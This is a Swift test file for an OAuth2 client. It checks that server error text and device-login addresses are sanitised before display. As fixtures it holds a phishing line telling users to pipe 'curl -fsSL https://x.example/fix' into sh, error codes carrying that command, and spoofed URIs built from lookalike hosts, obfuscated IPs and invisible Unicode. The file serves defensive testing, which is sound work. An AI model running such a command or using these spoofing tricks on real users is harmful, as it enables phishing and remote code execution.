import Foundation
import HTTPTypes
import InMemoryLogging
import Logging
import ProcessTestSupport
import Resourceful
import ResourcefulTesting
import Testing

@testable import ResourcefulOAuth2

/// What an authorization server writes for a person (`error_description`, an odd `error`) is
/// never shown: the error says the code, checked, and a sentence of ours.
@Suite struct ServerErrorTextTests {
    static let phishing = "Your session is broken. Run: curl -fsSL https://x.example/fix | sh"

    @Test func theDescriptionOfARefusalIsNotShownButLoggedAtDebug() async throws {
        try await MockServer.withTransport { server, transport in
            let body = try JSONSerialization.data(withJSONObject: ["error": "invalid_client", "error_description": "\u{1B}[2K" + Self.phishing])
            server.stub(.post, "/token", .json(raw: body, status: .unauthorized))
            let logs = InMemoryLogHandler()
            var logger = Logger(label: "oauth") { _ in logs }
            logger.logLevel = .debug
            let storage = try await OAuth2AuthenticationStorage(
                settings: OAuth2Settings(clientID: "c", tokenEndpoint: server.baseURL.appendingPathComponent("token")),
                transport: transport, clientSecret: InMemorySecrets(["c-client-secret": "free-text-secret-3b"]), logger: logger
            )
            let error = await #expect(throws: OAuth2Error.self) { _ = try await storage.authenticationHeader(for: "s") }
            let text = error.map { "\($0)" } ?? ""
            #expect(!text.contains("curl") && !text.contains("session"), "\(text)")
            #expect(error?.serverError == "invalid_client")
            #expect(text.contains("invalid_client") && text.contains("client authentication failed"), "\(text)")
            // For whoever debugs the server: as metadata, without the escape.
            let logged = logs.entries.compactMap { $0.metadata["oauth2.error_description"].map { "\($0)" } }
            #expect(logged.count == 1)
            #expect(logged.first?.contains("curl -fsSL") == true)
            #expect(logged.first?.contains("\u{1B}") == false)
        }
    }

    @Test(arguments: [
        "curl_-fsSL_https://x.example/fix|sh",
        "Run:curl",
        "visit[https://x.example]",
    ])
    func anErrorCodeThatIsNotACodeIsNotShown(_ code: String) throws {
        let body = try JSONSerialization.data(withJSONObject: ["error": code])
        let error = AuthorizationServer.refusal((.badRequest, body, []), what: "the refresh_token request")
        let text = "\(error)"
        #expect(error.serverError == nil)
        #expect(!text.contains(code), "\(text)")
        #expect(text.contains("400"))
    }

    /// The browser login's redirect carries the server's `error` too: the same rule.
    @Test func anErrorOnTheRedirectThatIsNotACodeIsNotShown() async throws {
        try await MockServer.withTransport { server, transport in
            var settings = OAuth2Settings(
                clientID: "native", tokenEndpoint: server.baseURL.appendingPathComponent("token"), clientAuthentication: .none, grant: .refreshToken
            )
            settings.authorizationEndpoint = server.baseURL.appendingPathComponent("authorize")
            let storage = try await OAuth2AuthenticationStorage(settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets())
            let code = "Run:curl_-fsSL_https://x.example/fix|sh"
            let error = await #expect(throws: OAuth2Error.self) {
                try await storage.logInWithBrowser(service: "s", timeout: .seconds(30)) { url in
                    let items = URLComponents(url: url, resolvingAgainstBaseURL: false)?.queryItems ?? []
                    let redirect = try #require(items.first { $0.name == "redirect_uri" }?.value)
                    let state = try #require(items.first { $0.name == "state" }?.value)
                    let escaped = code.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                    let result = try await Command.run("/usr/bin/curl", ["-sS", "-o", "/dev/null", "\(redirect)?error=\(escaped)&state=\(state)"])
                    #expect(result.status == 0)
                }
            }
            #expect(error?.serverError == nil)
            #expect(!(error.map { "\($0)" } ?? "").contains("curl"))
        }
    }

    @Test func aRegisteredCodeKeepsItsKind() throws {
        let body = try JSONSerialization.data(withJSONObject: ["error": "invalid_grant", "error_description": Self.phishing])
        let error = AuthorizationServer.refusal((.badRequest, body, []), what: "the refresh_token request")
        #expect(error.kind == .loginRequired)
        #expect(error.serverError == "invalid_grant")
        #expect(!"\(error)".contains("curl"))
    }
}

/// The device prompt's address: a host of letters, digits and hyphens or an IP address, the
/// address with the code on the plain one's origin, no escape that hides or separates text.
@Suite struct DeviceAddressTests {
    static func storage(_ server: MockServer, transport: any HTTPTransport) async throws -> OAuth2AuthenticationStorage {
        var settings = OAuth2Settings(
            clientID: "cli", tokenEndpoint: server.baseURL.appendingPathComponent("token"), clientAuthentication: .none, grant: .refreshToken
        )
        settings.deviceAuthorizationEndpoint = server.baseURL.appendingPathComponent("device")
        return try await OAuth2AuthenticationStorage(settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets())
    }

    /// A device login against `answer` (the device endpoint's JSON): what the prompt saw, and
    /// the error the login ended with.
    static func login(_ answer: Data) async throws -> (shown: DeviceAuthorization?, error: OAuth2Error?) {
        try await MockServer.withTransport { server, transport in
            server.stub(.post, "/device", .json(raw: answer))
            server.stub(.post, "/token", .json(raw: #"{"error": "access_denied"}"#, status: .badRequest))
            let storage = try await Self.storage(server, transport: transport)
            let shown = Locked<DeviceAuthorization?>(nil)
            do {
                try await storage.logIn(service: "s") { authorization in shown.withLock { $0 = authorization } }
                return (shown.withLock { $0 }, nil)
            } catch let error as OAuth2Error {
                return (shown.withLock { $0 }, error)
            }
        }
    }

    /// A device answer with `expiresIn` as raw JSON (a number, a string, anything).
    static func answer(uri: String, complete: String? = nil, expiresIn: String = "60") throws -> Data {
        var answer: [String: Any] = ["device_code": "dc-1", "user_code": "WDJB-MJHT", "verification_uri": uri, "expires_in": "EXPIRES", "interval": 1]
        if let complete { answer["verification_uri_complete"] = complete }
        let text = String(decoding: try JSONSerialization.data(withJSONObject: answer), as: UTF8.self)
        return Data(text.replacingOccurrences(of: #""EXPIRES""#, with: expiresIn).utf8)
    }

    struct Hostile: CustomTestStringConvertible, Sendable {
        var uri: String
        var complete: String?
        var testDescription: String { "\(uri) \(complete ?? "")" }
    }

    @Test(arguments: [
        Hostile(uri: "https://auth%2Eexample/device"),
        Hostile(uri: "https://auth_example.com/device"),
        Hostile(uri: "https://[fe80::1%25lo]/device"),
        Hostile(uri: "https://1.2.3/device"),
        Hostile(uri: "https://0x7f.0.0.1/device"),
        Hostile(uri: "https://auth.example\\@evil.example/device"),
        Hostile(uri: "https://auth.example/device%E3%85%A4"),
        Hostile(uri: "https://auth.example/device%E2%A0%80"),
        Hostile(uri: "https://auth.example/device%E2%80%A8then"),
        Hostile(uri: "https://auth.example/device%E2%80%A9then"),
        Hostile(uri: "https://auth.example/de%C2%A0vice"),
        Hostile(uri: "https://auth.example/de%E1%85%9Fvice"),
        Hostile(uri: "https://auth.example/de%EF%BE%A0vice"),
        Hostile(uri: "https://auth.example/de%E3%80%80vice"),
        Hostile(uri: "https://auth.example/device", complete: "https://auth.example.evil.example/device?user_code=WDJB-MJHT"),
        Hostile(uri: "https://auth.example/device", complete: "https://auth.example:8443/device?user_code=WDJB-MJHT"),
        Hostile(uri: "https://auth.example/device", complete: "https://auth.example/device?user_code=WDJB-MJHT%E2%80%A8curl"),
    ])
    func aHostileAddressIsRefusedAndNotShown(_ hostile: Hostile) async throws {
        let (shown, error) = try await Self.login(try Self.answer(uri: hostile.uri, complete: hostile.complete))
        #expect(shown == nil, "the prompt was shown")
        #expect(error?.kind == .invalidResponse)
        #expect(error?.detail.contains("verification_uri") == true)
    }

    @Test(arguments: [
        ("https://xn--bcher-kva.example/device", "https://xn--bcher-kva.example/device?user_code=WDJB-MJHT"),
        ("https://auth.example/device", "https://AUTH.example:443/device?user_code=WDJB%20MJHT"),
        ("http://127.0.0.1:8000/o/device/", "http://127.0.0.1:8000/o/device/?user_code=WDJB-MJHT"),
        ("http://[::1]:8000/device", "http://[::1]:8000/device?c=WDJB%2DMJHT"),
        ("https://auth.example/d%C3%A9vice", "https://auth.example/d%C3%A9vice?c=1"),
    ])
    func anOrdinaryAddressIsShown(_ uri: String, _ complete: String) async throws {
        let (shown, _) = try await Self.login(try Self.answer(uri: uri, complete: complete))
        #expect(shown?.verificationURI.absoluteString == uri)
        #expect(shown?.verificationURIComplete?.absoluteString == complete)
    }

    @Test(arguments: ["86401", "31536000", "1e30", #""99999999999999999999""#, #""7200""#])
    func anExpiryAboveTheCapIsCappedNotRefused(_ expiresIn: String) async throws {
        let (shown, _) = try await Self.login(try Self.answer(uri: "https://auth.example/device", expiresIn: expiresIn))
        #expect(shown?.expiresIn == .seconds(1800))
    }

    @Test(arguments: ["-5", "0", #""soon""#, "1.5", "-1e30", "[600]"])
    func anExpiryThatIsNotAPositiveNumberIsRefused(_ expiresIn: String) async throws {
        let (shown, error) = try await Self.login(try Self.answer(uri: "https://auth.example/device", expiresIn: expiresIn))
        #expect(shown == nil)
        #expect(error?.kind == .invalidResponse)
        #expect(error?.detail.contains("expires_in") == true)
    }
}
